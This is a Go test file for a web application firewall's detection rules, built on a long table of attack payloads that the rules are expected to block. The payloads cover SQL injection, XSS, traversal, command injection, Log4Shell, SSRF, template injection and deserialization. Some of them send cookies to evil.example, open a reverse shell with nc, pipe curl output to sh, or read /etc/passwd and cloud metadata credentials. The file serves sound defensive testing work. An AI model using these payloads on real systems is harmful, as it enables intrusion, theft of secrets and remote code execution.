package filter

import (
	"encoding/base64"
	"net/url"
	"strings"
	"testing"
)

// attackCase is an attack that must reach the default threshold (5) on
// its own, and the rule expected among the hits.
type attackCase struct {
	kind        Kind
	name, value string
	rule        string
}

// attackCases: written for this project per attack class (not copied from
// any test corpus), including the obfuscations each class is known for.
var attackCases = []attackCase{
	// SQL injection.
	{KindQueryValue, "id", "1' OR '1'='1", "sqli-libinjection"},
	{KindQueryValue, "id", "admin'--", "sqli-libinjection"},
	{KindQueryValue, "id", "1 AND 1=1", "sqli-tautology"},
	{KindQueryValue, "id", "42) or (7=7", "sqli-breakout-tautology"},
	{KindQueryValue, "cat", "2 UNION ALL SELECT username, password FROM accounts", "sqli-union-select"},
	{KindQueryValue, "cat", "2 UnIoN/**/SeLeCt 1,2,3", "sqli-union-select"},
	{KindQueryValue, "cat", "-7 /*!50000union*/ /*!50000select*/ 1", "sqli-comment-evasion"},
	{KindQueryValue, "q", "x' AND SLEEP(5)#", "sqli-function"},
	{KindQueryValue, "q", "1;WAITFOR DELAY '0:0:10'--", "sqli-function"},
	{KindBodyValue, "q", "1 and extractvalue(1,concat(0x7e,version()))", "sqli-function"},
	// Error-based double query: the duplicate group key of floor(rand(0)*2).
	{KindQueryValue, "id", "1 group by concat(version(),floor(rand(0)*2)) having min(0)", "sqli-function"},
	{KindQueryValue, "id", "1 and (select 1 from (select count(*),floor(rand(0)*2)x from t group by x)a)", "sqli-function"},
	{KindBodyValue, "q", "1' and (select count(*) from information_schema.tables)>0 -- ", "sqli-function"},
	{KindBodyValue, "sort", "name; DROP TABLE customers", "sqli-stacked-query"},
	{KindCookieValue, "uid", "7'; exec master..xp_cmdshell 'whoami'--", "sqli-libinjection"},
	{KindQueryValue, "id", "%2527%2520or%25201%253D1--", "sqli-libinjection"},
	{KindQueryValue, "id", "-1' UNION SELECT NULL,table_name FROM all_tables WHERE ROWNUM<2--", "sqli-union-select"},
	{KindQueryValue, "id", "3 RLIKE (SELECT (CASE WHEN (4=4) THEN 3 ELSE 0x28 END))", "sqli-function"},
	// XSS.
	{KindQueryValue, "q", "<script>fetch('//evil.example/'+document.cookie)</script>", "xss-script-tag"},
	{KindQueryValue, "q", "<img src=1 onerror=alert(7)>", "xss-event-handler"},
	{KindQueryValue, "q", "\" autofocus onfocus=\"print()", "xss-event-handler"},
	{KindQueryValue, "q", "<details open ontoggle=confirm(3)>", "xss-event-handler"},
	{KindQueryValue, "q", "%3Csvg%20onload%3Dprompt%28%29%3E", "xss-event-handler"},
	{KindQueryValue, "q", "&lt;iframe src=&#x6A;avascript:alert(1)&gt;", "xss-js-uri"},
	{KindQueryValue, "next", "javascript:void(window.location='//x.example')", "xss-js-uri"},
	{KindQueryValue, "next", "JaVa\tScRiPt:eval(name)", "xss-js-uri"},
	{KindBodyValue, "bio", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "xss-script-tag"},
	{KindBodyValue, "bio", "＜script＞alert(1)＜/script＞", "xss-script-tag"},
	{KindQueryValue, "cb", "x');top['al'+'ert'](1);//", "xss-js-sink"},
	{KindQueryValue, "cb", "eval(atob('YWxlcnQoMSk='))", "xss-js-sink"},
	{KindBodyValue, "data", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "xss-js-uri"},
	{KindBodyName, "", "__proto__[isAdmin]", "xss-prototype-pollution"},
	{KindQueryName, "", "a[constructor][prototype][onerror]", "xss-prototype-pollution"},
	{KindBodyName, "", `x["constructor"]["prototype"]`, "xss-prototype-pollution"},
	{KindBodyValue, "bio", "<base href=\"//attacker.example/\">", "xss-html-injection"},
	{KindBodyValue, "bio", "<style>@import 'https://attacker.example/x.css';</style>", "xss-html-injection"},
	{KindBodyValue, "bio", "<button formaction=\"https://attacker.example\">go</button>", "xss-html-injection"},
	{KindQueryValue, "q", "<a href=\"vbscript:msgbox(1)\">x</a>", "xss-js-uri"},
	// Path traversal / LFI.
	{KindQueryValue, "file", "../../../../etc/shadow", "traversal-dotdot"},
	{KindQueryValue, "file", "..%2f..%2f..%2fwindows%2fwin.ini", "lfi-sensitive-file"},
	{KindQueryValue, "file", "%252e%252e%252f%252e%252e%252fproc%252fself%252fenviron", "lfi-sensitive-file"},
	{KindQueryValue, "file", "....//....//....//etc/hosts", "lfi-config-file"},
	{KindQueryValue, "file", "..\\..\\..\\boot.ini", "lfi-sensitive-file"},
	{KindQueryValue, "file", "%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afgroup", "lfi-config-file"},
	{KindPath, "", "/download/..%5c..%5c..%5cweb.config", "lfi-config-file"},
	{KindPath, "", "/static/%2e%2e/%2e%2e/app.py", "traversal-dotdot"},
	{KindFileName, "", "../../var/www/html/shell.php", "traversal-dotdot"},
	{KindQueryValue, "page", "php://filter/convert.base64-encode/resource=index.php", "lfi-stream-wrapper"},
	{KindQueryValue, "doc", "file:///c:/windows/system32/drivers/etc/hosts", "lfi-sensitive-file"},
	{KindQueryValue, "doc", "phar://uploads/avatar.jpg/x", "lfi-stream-wrapper"},
	{KindQueryValue, "doc", "expect://id", "lfi-stream-wrapper"},
	{KindQueryValue, "doc", "data://text/plain;base64,SGVsbG8=", "lfi-stream-wrapper"},
	{KindQueryValue, "share", "\\\\10.0.0.5\\admin$\\secrets.txt", "lfi-unc-path"},
	// RCE.
	{KindQueryValue, "ip", "8.8.8.8; cat /etc/issue", "rce-unix-command"},
	{KindQueryValue, "ip", "8.8.8.8 | nc -e /bin/sh 203.0.113.9 4444", "rce-unix-command"},
	{KindQueryValue, "ip", "8.8.8.8 && wget http://203.0.113.9/x -O /tmp/x", "rce-unix-command"},
	{KindQueryValue, "ip", "8.8.8.8`uname -a`", "rce-subshell"},
	{KindQueryValue, "ip", "8.8.8.8;sleep 10;", "rce-unix-command"},
	{KindQueryValue, "ip", "8.8.8.8%0aid", "rce-unix-command"},
	{KindHeaderValue, "X-Host", "a.example\nwhoami", "rce-unix-command"},
	// A tab is a blank to the shell, as a space is.
	{KindQueryValue, "ip", "8.8.8.8\n\twhoami", "rce-unix-command"},
	{KindQueryValue, "c", "x\nuname\t-a", "rce-unix-command"},
	{KindQueryValue, "ip", "$(whoami)", "rce-subshell"},
	{KindQueryValue, "ip", "x;c\\at${IFS}/e??/pas*", "rce-shell-evasion"},
	{KindQueryValue, "ip", "x;{cat,/etc/passwd}", "rce-shell-evasion"},
	{KindQueryValue, "var", "${x#{}}", "rce-shell-evasion"},
	{KindQueryValue, "path", "${PATH##*:}", "rce-shell-evasion"},
	{KindQueryValue, "c", "c${u%%x}at /etc/hosts", "rce-shell-evasion"},
	{KindQueryValue, "c", "${cmd^^}", "rce-shell-evasion"},
	{KindQueryValue, "ip", "127.0.0.1 & ping -n 3 127.0.0.1", "rce-windows-command"},
	{KindQueryValue, "ip", "127.0.0.1 | cmd.exe /c dir", "rce-windows-command"},
	{KindBodyValue, "x", "powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://x/a')\"", "rce-windows-command"},
	{KindHeaderValue, "X-Forwarded-Host", "() { ignored; }; /bin/id", "rce-shellshock"},
	{KindBodyValue, "msg", "<!--#include virtual=\"/etc/passwd\" -->", "rce-ssi"},
	{KindBodyValue, "code", "<?php system($_GET['c']); ?>", "rce-code-injection"},
	{KindBodyValue, "code", "__import__('os').system('id')", "rce-code-injection"},
	{KindBodyValue, "obj", "O:8:\"Exploit1\":1:{s:4:\"cmd\";s:2:\"id\";}", "rce-code-injection"},
	{KindBodyValue, "expr", "java.lang.Runtime.getRuntime().exec('id')", "rce-code-injection"},
	// Log4Shell.
	{KindHeaderValue, "X-Api-Version", "${jndi:ldap://203.0.113.9:1389/a}", "jndi-lookup"},
	{KindUserAgent, "User-Agent", "${${lower:j}${upper:n}${lower:d}${upper:i}:rmi://x.example/o}", "jndi-lookup"},
	{KindQueryValue, "q", "${${::-j}${::-n}${::-d}${::-i}:dns://x.example/a}", "jndi-lookup"},
	{KindQueryValue, "q", "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x.example/a}", "jndi-lookup"},
	{KindQueryValue, "q", "%24%7Bjndi%3Aldaps%3A%2F%2Fx.example%2Fa%7D", "jndi-lookup"},
	{KindHeaderValue, "Referer", "${env:AWS_SECRET_ACCESS_KEY}", "jndi-lookup-obfuscated"},
	// SSRF.
	{KindQueryValue, "url", "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "ssrf-cloud-metadata"},
	{KindQueryValue, "url", "http://[fd00:ec2::254]/latest/meta-data/", "ssrf-cloud-metadata"},
	{KindQueryValue, "url", "http://metadata.google.internal/computeMetadata/v1/", "ssrf-cloud-metadata"},
	{KindQueryValue, "url", "http://2852039166/latest/meta-data/", "ssrf-cloud-metadata"},
	{KindQueryValue, "url", "http://0x7f.0x0.0x0.0x1:6379/", "ssrf-obfuscated-ip"},
	{KindQueryValue, "url", "http://0177.0.0.1/admin", "ssrf-obfuscated-ip"},
	{KindQueryValue, "url", "gopher://127.0.0.1:6379/_FLUSHALL", "ssrf-scheme"},
	{KindBodyValue, "webhook", "dict://10.0.0.7:11211/stat", "ssrf-scheme"},
	// "u" is the URL of link redirectors and image proxies (/l?u=…).
	{KindQueryValue, "u", "http://127.0.0.1:8080/admin", "ssrf-internal-target"},
	// The apex of a zone that answers loopback for every name.
	{KindQueryValue, "url", "http://vcap.me/", "ssrf-internal-target"},
	{KindQueryValue, "u", "http://localtest.me:8080/", "ssrf-internal-target"},
	// SSTI.
	{KindQueryValue, "name", "{{7*'7'}}", "ssti-expression"},
	{KindQueryValue, "name", "${3*3}", "ssti-expression"},
	{KindQueryValue, "name", "<%= 6 * 7 %>", "ssti-expression"},
	{KindBodyValue, "tpl", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "ssti-engine"},
	{KindBodyValue, "tpl", "{{ self.__init__.__globals__.__builtins__ }}", "ssti-engine"},
	{KindBodyValue, "tpl", "${T(java.lang.Runtime).getRuntime().exec('id')}", "ssti-engine"},
	{KindBodyValue, "template", "{{.}}{{printf \"%s\" .Env}}", "ssti-engine"},
	{KindBodyValue, "greeting", "{{ .Request.Header }}{{ call .Exec \"id\" }}", "ssti-engine"},
	{KindQueryValue, "name", "{{call .X}}", "ssti-engine"},
	{KindQueryValue, "q", "http://10.0.0.5:9200/_cat/indices", "ssrf-internal-target"},
	{KindBodyValue, "variables.q", "http://127.0.0.1:8080/actuator/env", "ssrf-internal-target"},
	{KindQueryValue, "term", "http://192.168.1.7/.git/config", "ssrf-internal-target"},
	{KindQueryValue, "q", ";`/usr/bin/id`", "rce-subshell"},
	{KindQueryValue, "name", "{{ printf \"%v\" .Secrets.DB }}", "ssti-engine"},
	{KindBodyValue, "tpl", "#set($x = $class.inspect(\"java.lang.Runtime\"))", "ssti-engine"},
	{KindBodyValue, "tpl", "{{ config }}", "ssti-engine"},
	// NoSQL.
	{KindQueryName, "", "password[$ne]", "nosql-operator"},
	{KindBodyName, "", "$where", "nosql-operator"},
	{KindBodyValue, "user", "{\"$gt\": \"\"}", "nosql-operator"},
	{KindBodyValue, "filter", "'; return this.role == 'admin' && ''=='", "nosql-js-injection"},
	{KindBodyValue, "filter", "db.users.find({})", "nosql-js-injection"},
	{KindBodyValue, "filter", "x'; return true; var y='", "nosql-js-injection"},
	// LDAP.
	{KindQueryValue, "user", "*)(uid=*))(|(uid=*", "ldap-filter-injection"},
	{KindQueryValue, "user", "admin)(&(objectClass=person)(cn=*", "ldap-filter-injection"},
	{KindQueryValue, "user", "cn:1.2.840.113556.1.4.803:=2", "ldap-filter-injection"},
	// XXE.
	{KindBodyRaw, "", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/hostname\">]><r>&x;</r>", "xxe-external-entity"},
	{KindBodyRaw, "", "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://203.0.113.9/e.dtd\"> %p;]>", "xxe-external-entity"},
	{KindBodyRaw, "", "<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///etc/hostname\" parse=\"text\"/></r>", "xxe-xinclude"},
	{KindBodyRaw, "", "<?xml version=\"1.0\" encoding=\"UTF-7\"?><r>+ADw-x+AD4-</r>", "xxe-utf7"},
	{KindBodyValue, "include@href", "http://203.0.113.9/x.xml", "xxe-xinclude"},
	// CRLF.
	{KindPath, "", "/redirect%0d%0aSet-Cookie:%20sid=attacker", "crlf-header-injection"},
	{KindQueryValue, "next", "/home%0D%0ALocation:%20http://evil.example", "crlf-header-injection"},
	// A bare script tag stays a probe; with code after it, an attack.
	{KindQueryValue, "q", "<script>", "xss-script-tag"},
	{KindQueryValue, "q", "<script>document.cookie", "xss-script-tag"},
	{KindQueryValue, "q", "hello <script>", "xss-script-tag"},
	// Where a line break is itself rare, any hyphenated header name.
	{KindQueryValue, "v", "%0d%0aRemote-Addr:%20127.0.0.1", "crlf-header-injection"},
	{KindCookieValue, "lang", "en%0d%0aX-Real-IP:%2010.0.0.1", "crlf-header-injection"},
	// Apache mod_proxy's socket|URL form (CVE-2021-40438).
	{KindQueryName, "", "unix:AAAAAAAAAAAAAAAAAAAA|http://backend.example/", "ssrf-scheme"},
	{KindQueryValue, "lang", "en%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK", "crlf-header-injection"},
	{KindPath, "", "/a%E5%98%8A%E5%98%8DSet-Cookie:x=1", "crlf-header-injection"},
	{KindBodyValue, "email", "me@example.com\r\nBcc: everyone@example.com", "crlf-mail-command"},
	{KindBodyValue, "subject", "hi\r\nRCPT TO:<victim@example.com>", "crlf-mail-command"},
	{KindBodyValue, "email", "x@y.example%0ACc:all@corp.example%0ASubject:spam", "crlf-mail-command"},
	{KindBodyValue, "contact", "me@example.com\nSubject: Free money", "crlf-mail-command"},
	{KindQueryValue, "ref", "%0D%0A%0D%0A%3Chtml%3E%3Cbody%3Einjected%3C/body%3E%3C/html%3E", "crlf-header-injection"},
	{KindCookieValue, "lang", "en%0a%0a<!doctype html><p>x", "crlf-header-injection"},
	{KindQueryValue, "msg", "login%20ok%0d%0a127.0.0.1%20-%20admin%20logged%20in", "crlf-log-forging"},
	{KindQueryValue, "user", "bob%0a2026-12-07T10:00:01Z INFO admin login ok", "crlf-log-forging"},
	{KindBodyValue, "username", "admin\r\n[INFO] 2024-05-01 12:00:00 User admin logged in successfully", "crlf-log-forging"},
	{KindQueryValue, "page", "%%0a0aSet-Cookie:crlf=1", "crlf-header-injection"},
	{KindQueryValue, "page", "\\r\\nSet-Cookie: crlf=1", "crlf-header-injection"},
	{KindCookieValue, "lang", "en\\nContent-Length: 0", "crlf-header-injection"},
	{KindQueryValue, "user", "bob%0a[2026-12-07 10:00:01] user admin logged in", "crlf-log-forging"},
	{KindHeaderValue, "X-Request-Note", "x\nDec  7 10:00:01 web sshd[1]: Accepted password for root", "crlf-log-forging"},
	// Scanners and probes.
	{KindUserAgent, "User-Agent", "sqlmap/1.8#stable (https://sqlmap.org)", "scanner-user-agent"},
	{KindUserAgent, "User-Agent", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)", "scanner-user-agent"},
	{KindUserAgent, "User-Agent", "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))", "scanner-user-agent"},
	{KindUserAgent, "User-Agent", "Fuzz Faster U Fool v2.1.0-dev", "scanner-user-agent"},
	{KindUserAgent, "User-Agent", "gobuster/3.6", "scanner-user-agent"},
	{KindUserAgent, "User-Agent", "Mozilla/5.0 (compatible; WPScan v3.8.25; https://wpscan.com/)", "scanner-user-agent"},
	{KindUserAgent, "User-Agent", "Mozilla/5.0 SF/2.10b", "scanner-user-agent"},
	{KindQueryValue, "cmd", "/usr/bin/id", "rce-command-line"},
	{KindQueryValue, "function", "call_user_func_array", "php-probe"},
	{KindQueryValue, "id", "1 or 1=1--a12303f695c38d64d1679b8e4b1f0711", "sqli-libinjection"},
	{KindBodyValue, "state", `O:40:"Illuminate\Broadcasting\PendingBroadcast":2:{s:9:"\0*\0events";O:15:"Faker\Generator":1:{}}`, "rce-code-injection"},
	{KindBodyValue, "username", "';return(true);var x='", "nosql-js-injection"},
	{KindBodyValue, "json_class", "Gem::Installer", "deserialization-object"},
	{KindQueryValue, "x", "a & if exist c:\\windows\\win.ini type c:\\windows\\win.ini", "rce-command-line"},
	{KindBodyValue, "t", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{/with}}{{/with}}", "ssti-probe"},
	{KindBodyValue, "name", "Bob\r\nCc: list@victims.example", "crlf-mail-command"},
	{KindQueryValue, "value", `public class x { public x(){ "curl http://198.51.100.23/j".execute() } }`, "rce-code-injection"},
	{KindPath, "", "/mifs/aad/api/v2/authorized/users", "path-sensitive-file"},
	{KindBodyValue, "template", "{% if 7*7 == 49 %}yes{% endif %}", "ssti-probe"},
	{KindBodyValue, "body", "<img src=x onerror=alert(document.domain)>", "xss-event-handler"},
	{KindBodyValue, "src", "data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "xss-js-uri"},
	{KindBodyValue, "html", "<div style=\"background:url('javascript:alert(1)')\">x</div>", "xss-libinjection"},
	{KindCookieValue, "rememberMe", "rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9uLkFubm90YXRpb25JbnZvY2F0aW9uSGFuZGxlcg", "deserialization-object"},
	{KindQueryValue, "data", "aced0005737200116a6176612e7574696c2e486173684d6170", "deserialization-object"},
	{KindCookieValue, "profile", "gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==", "deserialization-object"},
	{KindHeaderValue, "X-Auth-Context", "gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg==", "deserialization-object"},
	{KindBodyValue, "$type", "System.Windows.Data.ObjectDataProvider, PresentationFramework", "deserialization-object"},
	{KindBodyValue, "__type", "System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35", "deserialization-object"},
	{KindBodyValue, "py/function", "os.system", "deserialization-object"},
	{KindBodyValue, "type", "System.Data.Services.Internal.ExpandedWrapper`2[[System.Windows.Markup.XamlReader, PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35]]", "deserialization-object"},
	{KindBodyValue, "", "!<tag:yaml.org,2002:python/object/apply:os.system> [\"curl -s http://203.0.113.50/t|sh\"]", "deserialization-object"},
	{KindBodyValue, "", "ch.qos.logback.core.db.DriverManagerConnectionSource", "java-class-name"},
	{KindBodyValue, "@type", "com.zaxxer.hikari.HikariConfig", "java-class-name"},
	{KindQueryValue, "branch", "--upload-pack=touch /tmp/pwned", "rce-argument-injection"},
	{KindBodyValue, "_method", "__construct", "php-probe"},
	{KindBodyValue, "CitizenId", "']|//*|//*['", "xpath-injection"},
	{KindQueryValue, "fields[projects]", "name,(SELECT string_agg(token_digest,chr(44)) FROM personal_access_tokens)", "sqli-fragment"},
	{KindQueryValue, "ref", "--open-files-in-pager=touch /tmp/pwned", "rce-argument-injection"},
	{KindBodyValue, "variables[NODE_OPTIONS]", "--require /builds/eve/x/payload.js", "rce-argument-injection"},
	{KindCookieValue, "remember_user_token", "BAhvOkBBY3RpdmVTdXBwb3J0OjpEZXByZWNhdGlvbjo6RGVwcmVjYXRlZEluc3RhbmNlVmFyaWFibGVQcm94eQ==", "deserialization-object"},
	{KindBodyValue, "", "cposix\nsystem\n(S'curl -s evil.example/p|sh'\ntR.", "deserialization-object"},
	{KindQueryName, "", "filter[owner][$ne]", "nosql-operator"},
	{KindBodyValue, "CitizenId", "' or count(/*)=1 or 'a'='b", "xpath-injection"},
	{KindBodyValue, "CitizenId", "' or doc('http://attacker.example/x')/a or '", "xpath-injection"},
	{KindQueryValue, "$filter", "Vendor eq 'acme' or 'a' eq 'a'", "sqli-breakout-tautology"},
	{KindQueryValue, "id", "1042'", "sqli-breakout-tautology"},
	{KindBodyValue, "callbackUrl", "http://localhost:6379/", "ssrf-internal-target"},
	{KindBodyValue, "options", "--header-html http://attacker.example/h.html --post-file /etc/passwd http://attacker.example/", "rce-argument-injection"},
	{KindQueryValue, "page", "\\\\attacker.example\\share\\shell.php", "rfi-script-url"},
	{KindQueryValue, "page", "hTTpS://attacker.example/x", "rfi-script-url"},
	{KindQueryValue, "file", "..\\..\\App_Data\\GovBank.mdf", "lfi-sensitive-file"},
	{KindBodyValue, "fullName", "@{System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\");}", "ssti-engine"},
	{KindBodyValue, "name", "=?UTF-8?Q?x=0D=0ABcc:_list@attacker.example?=", "crlf-mail-command"},
	{KindBodyValue, "subject", "hi\r\n.\r\nMAIL FROM:<ceo@example.com>\r\nRCPT TO:<victim@example.org>", "crlf-mail-command"},
	{KindBodyValue, "city", ";=cmd|' /C calc'!A0", "csv-formula-injection"},
	{KindQueryValue, "text", "x\uff1bcat /etc/passwd", "rce-unix-command"},
	{KindQueryValue, "q", "x' \u01d4nion s\u00eblect password fr\u00f4m users--", "sqli-union-select"},
	{KindBodyValue, "password", "*", "ldap-filter-injection"},
	{KindQueryValue, "attrs", "userPassword,unicodePwd,sAMAccountName", "ldap-filter-injection"},
	{KindBodyValue, "url", "-o /var/www/html/s.php http://203.0.113.50/shell.txt", "rce-argument-injection"},
	{KindHeaderValue, "X-Webhook-Url", "http://127.0.0.1:8080/admin", "ssrf-internal-target"},
	{KindBodyValue, "term", "http://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ/admin", "ssrf-obfuscated-ip"},
	{KindBodyValue, "id", "http://consul.service.consul:8500/v1/agent/self", "ssrf-internal-target"},
	{KindBodyValue, "callback_url", "http://localhost:2375/containers/json", "ssrf-internal-target"},
	{KindBodyValue, "q", "http://10.0.0.7:2375/v1.41/containers/json", "ssrf-internal-target"},
	{KindBodyValue, "target", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets", "ssrf-internal-target"},
	{KindBodyValue, "q", "https://10.0.0.9:10250/pods", "ssrf-internal-target"},
	{KindQueryValue, "name", "WEB-INF/web.xml", "lfi-sensitive-file"},
	{KindBodyValue, "arg", "Something about the title. After something\ncat /etc/passwd;", "lfi-sensitive-file"},
	{KindQueryValue, "resource", "/META-INF/MANIFEST.MF", "lfi-sensitive-file"},
	{KindQueryValue, "user", "admin\\29\\28|\\28uid=\\2a", "ldap-filter-injection"},
	{KindQueryValue, "user", "*\\29\\28objectClass=*", "ldap-filter-injection"},
	{KindBodyValue, "callback", "create_function", "php-probe"},
	{KindQueryValue, "q", "window.location.href='//evil.example/'", "xss-js-sink"},
	{KindQueryValue, "q", "top.location", "xss-js-sink"},
	{KindQueryValue, "cmd", "/bin/uname", "rce-command-line"},
	{KindQueryValue, "abs_path", "http://evil.example/shell/", "rfi-script-url"},

	{KindPath, "", "/nmaplowercheck1715000000", "scanner-probe-path"},
	{KindPath, "", "/NmapUpperCheck1715000000", "scanner-probe-path"},
	{KindPath, "", "/acunetix-wvs-test-for-some-inexistent-file", "scanner-probe-path"},
	{KindPath, "", "/appscan_fingerprint/mac_address", "scanner-probe-path"},
	{KindPath, "", "/w00tw00t.at.ISC.SANS.DFind:)", "scanner-probe-path"},
	{KindPath, "", "/nessus_is_probing_you_", "scanner-probe-path"},
	{KindQueryValue, "cb", "http://a1b2c3.oastify.com/x", "scanner-oast-domain"},
	// Base64-wrapped payloads (decoded and inspected again).
	{KindQueryValue, "data", base64.StdEncoding.EncodeToString([]byte("<script>alert(document.cookie)</script>")), "xss-script-tag"},
	{KindQueryValue, "data", strings.TrimRight(base64.URLEncoding.EncodeToString([]byte("' or 1=1 union select password from users--")), "="), "sqli-union-select"},
}

func TestAttackCases(t *testing.T) {
	in, err := NewInspector(InspectorOptions{})
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range attackCases {
		hits := in.InspectValue(nil, c.kind, c.name, c.value)
		score, found := 0, false
		for _, h := range hits {
			score += h.Score
			found = found || h.Rule == c.rule
		}
		if score < DefaultThreshold {
			t.Errorf("not blocked (score %d): kind %d %s=%q: %v", score, c.kind, c.name, c.value, hits)
		} else if !found {
			t.Errorf("blocked but not by %s: %q: %v", c.rule, c.value, hits)
		}
	}
	t.Logf("%d attack cases blocked, each by its expected rule", len(attackCases))
}

// TestAttackCasesURLEncoded: the same attacks, percent-encoded once more,
// as a value that some layer forgot to decode.
func TestAttackCasesURLEncoded(t *testing.T) {
	in, err := NewInspector(InspectorOptions{})
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range attackCases {
		if c.kind == KindBodyRaw || strings.HasPrefix(c.rule, "scanner-user-agent") {
			continue
		}
		v := url.QueryEscape(c.value)
		score := 0
		for _, h := range in.InspectValue(nil, c.kind, c.name, v) {
			score += h.Score
		}
		if score < DefaultThreshold {
			t.Errorf("not blocked once encoded (score %d): %q", score, v)
		}
	}
}

func TestRulesTable(t *testing.T) {
	seen := map[string]bool{}
	for _, r := range Rules() {
		if r.ID == "" || r.Category == "" || r.Description == "" || r.Score <= 0 || r.Paranoia < 1 || r.Paranoia > 4 {
			t.Errorf("incomplete rule %+v", r)
		}
		if seen[r.ID] {
			t.Errorf("duplicate rule id %s", r.ID)
		}
		seen[r.ID] = true
	}
	if len(seen) != int(numRules) {
		t.Errorf("Rules() has %d ids, want %d", len(seen), numRules)
	}
}

func TestInspectorOptions(t *testing.T) {
	if _, err := NewInspector(InspectorOptions{Paranoia: 5}); err == nil {
		t.Error("paranoia 5 accepted")
	}
	if _, err := NewInspector(InspectorOptions{Paranoia: -1}); err == nil {
		t.Error("paranoia -1 accepted")
	}
	v := "1' OR '1'='1"
	in, _ := NewInspector(InspectorOptions{DisabledRules: []string{"sqli-*", "custom-x"}})
	for _, h := range in.InspectValue(nil, KindQueryValue, "id", v) {
		if h.Category == CatSQLi {
			t.Errorf("disabled by glob but fired: %v", h)
		}
	}
	in, _ = NewInspector(InspectorOptions{DisabledRules: []string{"sqli-libinjection"}})
	for _, h := range in.InspectValue(nil, KindQueryValue, "id", v) {
		if h.Rule == "sqli-libinjection" {
			t.Errorf("disabled but fired: %v", h)
		}
	}
	// Paranoia 2 turns on rules that are off at 1.
	low, _ := NewInspector(InspectorOptions{})
	high, _ := NewInspector(InspectorOptions{Paranoia: 2})
	q := "select name from products"
	if n := len(low.InspectValue(nil, KindQueryValue, "q", q)); n != 0 {
		t.Errorf("PL1 hits on %q: %d", q, n)
	}
	if n := len(high.InspectValue(nil, KindQueryValue, "q", q)); n == 0 {
		t.Errorf("PL2 no hit on %q", q)
	}
	// Base64 inspection can be turned off.
	b64 := base64.StdEncoding.EncodeToString([]byte("<script>alert(1)</script>"))
	nob, _ := NewInspector(InspectorOptions{NoBase64: true})
	if n := len(nob.InspectValue(nil, KindQueryValue, "d", b64)); n != 0 {
		t.Errorf("NoBase64: %d hits", n)
	}
	// dst is appended to, hits of one value are de-duplicated.
	dst := []Hit{{Rule: "prior"}}
	dst = low.InspectValue(dst, KindQueryValue, "q", "<script>alert(1)</script><script>alert(2)</script>")
	if dst[0].Rule != "prior" || len(dst) < 2 {
		t.Errorf("dst not appended: %v", dst)
	}
	ids := map[string]int{}
	for _, h := range dst {
		ids[h.Rule]++
		if ids[h.Rule] > 1 {
			t.Errorf("duplicate hit %s", h.Rule)
		}
	}
}

// TestInspectConcurrent runs the inspector from several goroutines (run
// with -race).
func TestInspectConcurrent(t *testing.T) {
	in, _ := NewInspector(InspectorOptions{})
	done := make(chan bool)
	for g := 0; g < 4; g++ {
		go func(g int) {
			for i := 0; i < 200; i++ {
				c := attackCases[(i+g)%len(attackCases)]
				b := benignValues[(i*7+g)%len(benignValues)]
				if len(in.InspectValue(nil, c.kind, c.name, c.value)) == 0 {
					t.Errorf("no hit on %q", c.value)
				}
				in.InspectValue(nil, b.kind, b.name, b.value)
			}
			done <- true
		}(g)
	}
	for g := 0; g < 4; g++ {
		<-done
	}
}

// TestRawBodies: raw JSON and XML bodies are inspected value by value.
func TestRawBodies(t *testing.T) {
	in, err := NewInspector(InspectorOptions{})
	if err != nil {
		t.Fatal(err)
	}
	benign := []string{
		`{"name":"O'Brien","comment":"it's 5 o'clock -- select a plan","n":1,"tags":["a'b","c"],"nested":{"q":"union station","o":{"x":"y"}}}`,
		`[{"a":"b"},"c'd"]`,
		`{"query":"{ user(id: 1) { name } }"}`,
		`<?xml version="1.0"?><note lang="en"><to>O'Brien &amp; Sons</to><body><![CDATA[select a plan; drop us a line]]></body></note>`,
		`not json {but braces}`,
	}
	for _, s := range benign {
		if h := in.InspectValue(nil, KindBodyRaw, "", s); len(h) != 0 {
			t.Errorf("benign raw body %q: %v", s, h)
		}
	}
	attacks := []string{
		`{"q":"1' or '1'='1"}`,
		`{"$where":"sleep(100)"}`,
		`[{"a":{"b":["<script>alert(1)</script>"]}}]`,
		`<r><q>1&#39; or &#39;1&#39;=&#39;1</q></r>`,
		`<r a="&lt;svg onload=alert(1)&gt;"/>`,
		`<r><![CDATA[<img src=x onerror=alert(1)>]]></r>`,
		// Padding past maxRawSegments does not hide the payload.
		"<r>" + strings.Repeat("<a>x</a>", maxRawSegments+10) + "<b>&lt;script&gt;alert(1)&lt;/script&gt;</b></r>",
		"[" + strings.Repeat(`"x",`, maxRawSegments+10) + `"<script>alert(1)</script>"]`,
	}
	for _, s := range attacks {
		score := 0
		for _, h := range in.InspectValue(nil, KindBodyRaw, "", s) {
			score += h.Score
		}
		if score < DefaultThreshold {
			t.Errorf("raw body attack %q scored %d", s, score)
		}
	}
}
